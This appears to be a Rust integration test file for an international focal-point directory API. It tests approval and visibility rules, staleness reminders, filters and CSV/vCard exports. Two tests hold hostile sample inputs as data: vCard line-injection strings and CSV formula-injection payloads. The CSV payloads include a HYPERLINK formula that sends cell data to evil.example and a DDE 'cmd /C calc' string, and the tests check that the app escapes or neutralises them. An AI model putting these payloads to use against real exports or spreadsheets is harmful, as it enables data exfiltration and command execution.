//! The directory of focal points: proposals need the foreign-ministry approver before other
//! countries see them; a change keeps the approved version visible; stale entries remind;
//! exports; hits point to the focal point.
use crate::testkit::each_engine;
use reqwest::{Method, StatusCode};
use serde_json::json;

fn entry(name: &str) -> serde_json::Value {
    json!({"name": name, "position": "Fiscal de enlace (ficticio)", "institution": "prosecution", "axes": [1, 2], "topics": "tráfico; rutas marítimas", "phone": "+506 2222 0000", "email": "enlace@example.cr", "languages": ["es", "en"], "hours": "08:00-17:00", "available_24_7": true, "public": true})
}

#[tokio::test]
async fn approval_controls_what_other_countries_see() {
    each_engine(|s| async move {
        let off = s.token("officer.cr").await;
        let appr = s.token("approver.cr").await;
        let other = s.token("officer.gt").await;
        let (st, e) = s.api(Some(&off), Method::POST, "/api/v1/directory", Some(entry("Laura Ficticia Mora"))).await;
        assert_eq!(st, StatusCode::CREATED, "{e}");
        let id = e["id"].as_str().unwrap().to_string();
        assert_eq!(e["status"], "pending");
        // Not visible to other countries until approved; the approver was notified.
        assert_eq!(s.api(Some(&other), Method::GET, &format!("/api/v1/directory/{id}"), None).await.0, StatusCode::NOT_FOUND);
        let (_, n) = s.api(Some(&appr), Method::GET, "/api/v1/notifications", None).await;
        assert!(n["items"].as_array().unwrap().iter().any(|x| x["kind"] == "directory_approval"), "{n}");
        // Only the approver approves.
        assert_eq!(s.api(Some(&off), Method::POST, &format!("/api/v1/directory/{id}/approve"), None).await.0, StatusCode::FORBIDDEN);
        assert_eq!(s.api(Some(&s.token("approver.gt").await), Method::POST, &format!("/api/v1/directory/{id}/approve"), None).await.0, StatusCode::NOT_FOUND);
        let (st, _) = s.api(Some(&appr), Method::POST, &format!("/api/v1/directory/{id}/approve"), None).await;
        assert_eq!(st, StatusCode::OK);
        let (st, v) = s.api(Some(&other), Method::GET, &format!("/api/v1/directory/{id}"), None).await;
        assert_eq!(st, StatusCode::OK);
        assert_eq!(v["entry"]["name"], "Laura Ficticia Mora");
        // A change goes back to approval; others keep seeing the approved version.
        let (st, v) = s.api(Some(&off), Method::PATCH, &format!("/api/v1/directory/{id}"), Some(entry("Laura Ficticia Mora de Solís"))).await;
        assert_eq!(st, StatusCode::OK);
        assert_eq!(v["entry"]["name"], "Laura Ficticia Mora de Solís", "the own country sees its draft");
        let (_, v) = s.api(Some(&other), Method::GET, &format!("/api/v1/directory/{id}"), None).await;
        assert_eq!(v["entry"]["name"], "Laura Ficticia Mora");
        assert!(v["pending_change"].is_null(), "drafts never leave the country");
        assert_eq!(s.api(Some(&other), Method::PATCH, &format!("/api/v1/directory/{id}"), Some(entry("X"))).await.0, StatusCode::FORBIDDEN);
        s.api(Some(&appr), Method::POST, &format!("/api/v1/directory/{id}/approve"), None).await;
        let (_, v) = s.api(Some(&other), Method::GET, &format!("/api/v1/directory/{id}"), None).await;
        assert_eq!(v["entry"]["name"], "Laura Ficticia Mora de Solís");
        // Filters and exports.
        let (_, l) = s.api(Some(&other), Method::GET, "/api/v1/directory?country=cr&institution=prosecution&axis=2&language=en", None).await;
        let items = l["items"].as_array().unwrap();
        assert!(items.iter().any(|x| x["id"] == id.as_str()));
        assert!(items.iter().all(|x| x["country"] == "cr" && x["entry"]["institution"] == "prosecution"));
        let (_, l) = s.api(Some(&other), Method::GET, "/api/v1/directory?axis=4", None).await;
        assert_eq!(l["total"], 0);
        let csv = s.http.get(format!("{}/api/v1/directory/export.csv", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
        assert!(csv.starts_with("country,name") && csv.contains("\"Laura Ficticia Mora de Solís\"") && csv.contains("\"'+506 2222 0000\""), "{csv}");
        let res = s.http.get(format!("{}/api/v1/directory/export.csv?country=cr&axis=&language=&q=", s.base)).bearer_auth(&other).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "empty filters mean no filter");
        let vcf = s.http.get(format!("{}/api/v1/directory/export.vcf", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
        assert!(vcf.contains("BEGIN:VCARD") && vcf.contains("FN:Laura Ficticia Mora de Solís") && vcf.contains("EMAIL;TYPE=INTERNET:enlace@example.cr"), "{vcf}");
        // Bad input.
        let (st, v) = s.api(Some(&off), Method::POST, "/api/v1/directory", Some(json!({"name": "", "institution": "circus", "axes": [7], "email": "nope"}))).await;
        assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
        // A hit on Costa Rica's records points to this focal point.
        let (_, c) = s.api(Some(&off), Method::POST, "/api/v1/cases", Some(json!({"title": "Caso CR", "distribution": {"level": "country"}}))).await;
        s.api(Some(&off), Method::POST, "/api/v1/entities", Some(json!({"case_id": c["id"], "schema": "Vehicle", "properties": {"registrationNumber": ["CR-778899"]}}))).await;
        let (_, r) = s
            .api(Some(&other), Method::POST, "/api/v1/checks", Some(json!({"purpose": "p", "case_reference": "r", "subject": {"schema": "Vehicle", "properties": {"registrationNumber": ["cr 778899"]}}})))
            .await;
        let cr = r["results"].as_array().unwrap().iter().find(|x| x["country"] == "cr").unwrap();
        assert_eq!(cr["hit"], true, "{r}");
        // One of Costa Rica's approved prosecution focal points (the demo has one too).
        assert_eq!(cr["focal_point"]["institution"], "prosecution", "{r}");
        let (_, cr_dir) = s.api(Some(&other), Method::GET, "/api/v1/directory?country=cr", None).await;
        assert!(cr_dir["items"].as_array().unwrap().iter().any(|x| x["entry"]["name"] == cr["focal_point"]["name"]));
    })
    .await;
}

#[tokio::test]
async fn stale_entries_are_flagged_and_their_country_reminded() {
    let s = crate::testkit::sqlite_server(enlace_app::AppConfig::default()).await;
    let off = s.token("officer.hn").await;
    let appr = s.token("approver.hn").await;
    let admin = s.token("admin.hn").await;
    let (_, e) = s
        .api(
            Some(&off),
            Method::POST,
            "/api/v1/directory",
            Some(entry("Punto Focal Ficticio")),
        )
        .await;
    let id = e["id"].as_str().unwrap().to_string();
    s.api(
        Some(&appr),
        Method::POST,
        &format!("/api/v1/directory/{id}/approve"),
        None,
    )
    .await;
    s.clock.advance_secs(184 * 24 * 3600);
    let (_, v) = s
        .api(
            Some(&off),
            Method::GET,
            &format!("/api/v1/directory/{id}"),
            None,
        )
        .await;
    assert_eq!(v["stale"], true);
    let sent = s.app.run_reminders().await.unwrap();
    assert!(sent >= 2);
    for t in [&admin, &appr] {
        let (_, n) = s
            .api(Some(t), Method::GET, "/api/v1/notifications", None)
            .await;
        assert!(
            n["items"]
                .as_array()
                .unwrap()
                .iter()
                .any(|x| x["kind"] == "directory_stale"),
            "{n}"
        );
    }
    assert_eq!(s.app.run_reminders().await.unwrap(), 0, "reminded once");
    let (st, v) = s
        .api(
            Some(&off),
            Method::POST,
            &format!("/api/v1/directory/{id}/confirm"),
            None,
        )
        .await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(v["stale"], false);
}

/// Creates and approves a Costa Rican entry; returns its id.
async fn approved_entry(s: &crate::testkit::Server, data: serde_json::Value) -> String {
    let off = s.token("officer.cr").await;
    let appr = s.token("approver.cr").await;
    let (st, e) = s
        .api(Some(&off), Method::POST, "/api/v1/directory", Some(data))
        .await;
    assert_eq!(st, StatusCode::CREATED, "{e}");
    let id = e["id"].as_str().unwrap().to_string();
    let (st, _) = s
        .api(
            Some(&appr),
            Method::POST,
            &format!("/api/v1/directory/{id}/approve"),
            None,
        )
        .await;
    assert_eq!(st, StatusCode::OK);
    id
}

async fn export(s: &crate::testkit::Server, token: &str, file: &str) -> String {
    let res = s
        .http
        .get(format!("{}/api/v1/directory/{file}", s.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    res.text().await.unwrap()
}

/// Line breaks in an entry (CR, CRLF, LF) cannot start a property of their own in the vCard
/// export: every line of the output is one the exporter wrote.
#[tokio::test]
async fn the_vcard_export_lets_no_field_inject_a_property() {
    each_engine(|s| async move {
        let mut data = entry("Ana Ficticia\r\nEMAIL:name@evil.example");
        data["position"] = json!("Jefa\rEMAIL;TYPE=INTERNET:robo@evil.example\r\nTEL:+1 555 0100\nURL:https://evil.example");
        data["topics"] = json!("rutas\r\nEND:VCARD\r\nBEGIN:VCARD\rFN:Falso");
        data["hours"] = json!("08:00\r\u{2028}PHOTO:x");
        approved_entry(&s, data).await;
        let other = s.token("officer.gt").await;
        let vcf = export(&s, &other, "export.vcf").await;
        assert!(!vcf.replace("\r\n", "").contains(['\r', '\n']), "no lone CR or LF: {vcf:?}");
        assert!(vcf.ends_with("\r\n"));
        // Unfolded, each line is a property the exporter writes, and cards pair up.
        let unfolded = vcf.replace("\r\n ", "");
        let lines: Vec<&str> = unfolded.split_terminator("\r\n").collect();
        let generated = ["BEGIN:", "VERSION:", "FN:", "ORG:", "TITLE:", "TEL;TYPE=WORK:", "EMAIL;TYPE=INTERNET:", "NOTE:", "END:"];
        for l in &lines {
            assert!(generated.iter().any(|p| l.starts_with(p)), "injected line {l:?} in {vcf:?}");
        }
        assert_eq!(lines.iter().filter(|l| **l == "BEGIN:VCARD").count(), lines.iter().filter(|l| **l == "END:VCARD").count());
        assert!(!lines.iter().any(|l| l.starts_with("EMAIL") && l.contains("evil")), "{vcf:?}");
        assert!(!lines.iter().any(|l| l.starts_with("TEL") && l.contains("555")), "{vcf:?}");
        assert!(!lines.iter().any(|l| l.starts_with("FN:Falso")), "{vcf:?}");
        // The text is kept, escaped.
        assert!(lines.contains(&"FN:Ana Ficticia\\nEMAIL:name@evil.example"), "{vcf:?}");
        assert!(lines.contains(&"TITLE:Jefa\\nEMAIL\\;TYPE=INTERNET:robo@evil.example\\nTEL:+1 555 0100\\nURL:https://evil.example"), "{vcf:?}");
        assert!(lines.contains(&"NOTE:rutas\\nEND:VCARD\\nBEGIN:VCARD\\nFN:Falso 08:00\\n\\nPHOTO:x"), "{vcf:?}");
    })
    .await;
}

/// Cells a spreadsheet would run as formulas (CSV injection) are exported as text: a leading
/// `'`, inside a properly quoted cell.
#[tokio::test]
async fn the_csv_export_neutralises_formulas() {
    each_engine(|s| async move {
        let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Ver, \"\"ficha\"\"\")";
        let mut data = entry(hyperlink);
        data["position"] = json!("+cmd|' /C calc'!A0");
        data["topics"] = json!("-2+3; rutas");
        data["hours"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
        data["email"] = json!("x@example.cr");
        approved_entry(&s, data).await;
        let other = s.token("officer.gt").await;
        let text = export(&s, &other, "export.csv").await;
        // The neutralised cell appears quoted, with its quotes doubled.
        let quoted = format!("\"'{}\"", hyperlink.replace('"', "\"\""));
        assert!(text.contains(&quoted), "{quoted} in {text}");
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let headers = rows.headers().unwrap().clone();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let rows: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
        for r in &rows {
            assert_eq!(r.len(), headers.len());
            for cell in r {
                assert!(
                    !cell
                        .trim_start()
                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "formula cell {cell:?}"
                );
            }
        }
        let ours = rows
            .iter()
            .find(|r| r[col("name")].contains("HYPERLINK"))
            .expect("the entry is exported");
        assert_eq!(&ours[col("name")], format!("'{hyperlink}"));
        assert_eq!(&ours[col("position")], "'+cmd|' /C calc'!A0");
        assert_eq!(&ours[col("topics")], "'-2+3; rutas");
        assert_eq!(&ours[col("hours")], "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(&ours[col("phone")], "'+506 2222 0000");
        assert_eq!(
            &ours[col("email")],
            "x@example.cr",
            "other cells are unchanged"
        );
    })
    .await;
}
